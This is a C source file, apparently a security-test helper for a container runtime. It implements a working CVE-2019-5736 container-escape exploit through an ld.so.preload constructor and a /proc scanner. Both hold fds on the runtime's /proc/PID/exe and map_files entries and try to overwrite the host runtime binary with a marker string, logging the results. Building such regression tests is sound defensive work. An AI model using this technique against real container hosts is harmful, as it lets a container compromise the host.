/* CVE-2019-5736 attacker, for tests/security/t_cve_exe.sh.
 *
 * Built two ways:
 *  - as a shared object named by the container's /etc/ld.so.preload
 *    (-DPRELOAD): when the runtime's binary is run inside the container
 *    (a `#!/proc/self/exe` script), its constructor keeps an O_PATH fd on
 *    /proc/self/exe, leaves a child behind and lets the process exit; the
 *    child (`exe_overwrite hold FD`: no longer mapping the runtime itself)
 *    reopens the fd for writing once the file is no longer busy;
 *  - as a static program (`exe_overwrite scan SECONDS`), run with
 *    CAP_SYS_PTRACE as a container's process: it watches every other
 *    process of the container and keeps an fd on each /proc/PID/exe that it
 *    can open (the runtime's waiting init, an exec helper before its exec),
 *    and, with CAP_CHECKPOINT_RESTORE too, on each /proc/PID/map_files
 *    entry that maps the same file, then tries to write through them.
 * Every outcome is appended to /attack.log in the container. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MARK "#crun-lite-overwritten#"

static void
note (const char *fmt, const char *a, int e)
{
  int fd = open ("/attack.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd >= 0)
    {
      dprintf (fd, fmt, a, e ? strerror (e) : "");
      close (fd);
    }
}

static double
now (void)
{
  struct timespec t;
  clock_gettime (CLOCK_MONOTONIC, &t);
  return (double) t.tv_sec + t.tv_nsec / 1e9;
}

/* Reopen each held fd for writing until one works or time runs out. */
static void
write_through (int *fds, char (*names)[64], int n, double seconds)
{
  double end = now () + seconds;
  int last_errno[256] = { 0 };
  while (now () < end)
    {
      for (int i = 0; i < n; i++)
        {
          char path[64];
          int w;
          snprintf (path, sizeof path, "/proc/self/fd/%d", fds[i]);
          w = open (path, O_WRONLY);
          if (w >= 0 && pwrite (w, MARK, sizeof MARK - 1, 0) == (ssize_t) (sizeof MARK - 1))
            {
              note ("WROTE through %s%s\n", names[i], 0);
              close (w);
              return;
            }
          last_errno[i] = errno;
          if (w >= 0)
            close (w);
        }
      usleep (20000);
    }
  for (int i = 0; i < n; i++)
    note ("write through %s failed: %s\n", names[i], last_errno[i]);
}

#ifdef PRELOAD
__attribute__ ((constructor)) static void
attack (void)
{
  char link[256] = "";
  int fd = open ("/proc/self/exe", O_PATH | O_CLOEXEC);
  char names[1][64];
  if (fd < 0)
    {
      note ("open /proc/self/exe failed%s: %s\n", "", errno);
      _exit (0);
    }
  readlink ("/proc/self/exe", link, sizeof link - 1);
  note ("preload: holding /proc/self/exe -> %s%s\n", link, 0);
  snprintf (names[0], sizeof names[0], "/proc/self/exe");
  if (fork () == 0)
    {
      char arg[16];
      setsid ();
      snprintf (arg, sizeof arg, "%d", fd);
      fcntl (fd, F_SETFD, 0);
      execl ("/bin/exe_scan", "exe_scan", "hold", arg, (char *) NULL);
      _exit (0);
    }
  /* A container's init keeps its pid namespace (and the writer) alive. */
  if (getpid () == 1)
    execl ("/bin/sleep", "sleep", "30", (char *) NULL);
  _exit (0);
}
#else
/* The mappings of a runtime process's binary, through /proc/PID/map_files
 * (open needs CAP_SYS_ADMIN or CAP_CHECKPOINT_RESTORE): the same file by
 * another path, which a protection of /proc/PID/exe alone would miss. */
static int
hold_map_files (int pid, const struct stat *exe, int *fds, char (*names)[64], int n, int *held)
{
  char dir[32], path[320];
  DIR *d;
  struct dirent *e;
  snprintf (dir, sizeof dir, "/proc/%d/map_files", pid);
  d = opendir (dir);
  while (d && (e = readdir (d)) != NULL && n < 256)
    {
      struct stat st;
      int fd;
      if (e->d_name[0] == '.')
        continue;
      snprintf (path, sizeof path, "%s/%s", dir, e->d_name);
      fd = open (path, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue;
      if (fstat (fd, &st) == 0 && st.st_dev == exe->st_dev && st.st_ino == exe->st_ino)
        {
          fds[n] = fd;
          snprintf (names[n], sizeof names[n], "%s", path);
          n++;
          (*held)++;
        }
      else
        close (fd);
    }
  if (d)
    closedir (d);
  return n;
}

int
main (int argc, char **argv)
{
  double seconds = argc > 2 ? atof (argv[2]) : 5.0, end = now () + seconds;
  static int fds[256];
  static char names[256][64];
  static char seen[1 << 16];
  int n = 0, mapped = 0;
  if (argc > 2 && strcmp (argv[1], "hold") == 0)
    {
      fds[0] = atoi (argv[2]);
      snprintf (names[0], sizeof names[0], "/proc/self/exe");
      write_through (fds, names, 1, 3.0);
      return 0;
    }
  if (argc < 2 || strcmp (argv[1], "scan") != 0)
    {
      fprintf (stderr, "usage: exe_overwrite scan SECONDS | hold FD\n");
      return 2;
    }
  struct stat own, shell;
  if (stat ("/proc/self/exe", &own) < 0 || stat ("/bin/busybox", &shell) < 0)
    return 2;
  note ("scanner started%s%s\n", "", 0);
  while (now () < end && n < 256)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)) != NULL && n < 256)
        {
          int pid = atoi (e->d_name);
          char path[64];
          int fd;
          if (pid <= 0 || pid == getpid () || pid >= (int) sizeof seen || seen[pid])
            continue;
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          fd = open (path, O_PATH | O_CLOEXEC);
          struct stat st;
          if (fd < 0)
            continue;
          /* The container's own programs are not the target. */
          if (fstat (fd, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino)
              || (st.st_dev == shell.st_dev && st.st_ino == shell.st_ino))
            {
              close (fd);
              continue;
            }
          seen[pid] = 1;
          fds[n] = fd;
          snprintf (names[n], sizeof names[n], "%s", path);
          n++;
          n = hold_map_files (pid, &st, fds, names, n, &mapped);
        }
      if (d)
        closedir (d);
    }
  note ("scanner holds %s exe links%s\n", n ? "some" : "no", 0);
  note ("scanner holds %s map_files links%s\n", mapped ? "some" : "no", 0);
  write_through (fds, names, n, 3.0);
  return 0;
}
#endif
